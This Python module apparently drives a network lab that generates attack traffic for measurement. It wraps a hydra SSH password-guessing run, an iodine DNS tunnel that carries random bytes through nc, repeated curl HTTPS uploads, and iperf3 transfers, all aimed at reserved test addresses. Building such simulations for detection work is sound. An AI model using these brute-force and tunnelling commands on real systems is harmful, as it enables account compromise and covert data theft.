"""The tools that attackers use and measurers too, with the settings of the scenarios."""

from __future__ import annotations

import os
import tempfile
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager

from .topology import Lab, stop


@contextmanager
def file_of(content: bytes) -> Iterator[str]:
    """The path of a file with this content."""
    with tempfile.NamedTemporaryFile() as file:
        file.write(content)
        file.flush()
        yield file.name


def guess(lab: Lab, ns: str, target: str, passwords: Sequence[str], how: str = "-f -I -t 4 -l ops") -> None:
    """hydra, 4 at a time; stops at the right password unless `how` says otherwise."""
    with file_of("\n".join(passwords).encode()) as words:
        lab.inside(ns, f"timeout 120 hydra {how} -P {words} ssh://{target}")


def iperf(lab: Lab, ns: str, amount: str, extra: str = "", server: str = "203.0.113.30") -> None:
    """A transfer from the client to the server; with -R the other way. --repeating-payload keeps a capture small."""
    serving = lab.start("inet", f"iperf3 -s -1 -B {server}")
    time.sleep(0.7)
    lab.inside(ns, f"timeout 90 iperf3 -c {server} -n {amount} {extra}")
    stop(serving)


def iodine(lab: Lab, ns: str, size: int) -> None:
    """Copies so many bytes through a DNS tunnel to 203.0.113.53 under t.tunnel.test."""
    server = lab.start("inet", "iodined -f -c -P secret -l 203.0.113.53 172.31.9.1 t.tunnel.test")
    time.sleep(1.5)
    client = lab.start(ns, "iodine -f -r -T TXT -O base32 -P secret 203.0.113.53 t.tunnel.test")
    time.sleep(8)
    sink = lab.start("inet", "nc -l -p 9999")
    lab.inside(ns, f"sh -c 'head -c {size} /dev/urandom | timeout 40 nc -q1 172.31.9.1 9999'")
    time.sleep(5)
    for process in (sink, client, server):
        stop(process)


def upload(lab: Lab, ns: str, size: int, times: int = 1, pause_s: float = 3) -> None:
    """HTTPS POSTs of so many random bytes to 203.0.113.40."""
    with file_of(os.urandom(size)) as content:
        for _ in range(times):
            lab.inside(ns, f"curl -sk -m 60 -X POST --data-binary @{content} https://203.0.113.40/up -o /dev/null")
            time.sleep(pause_s)
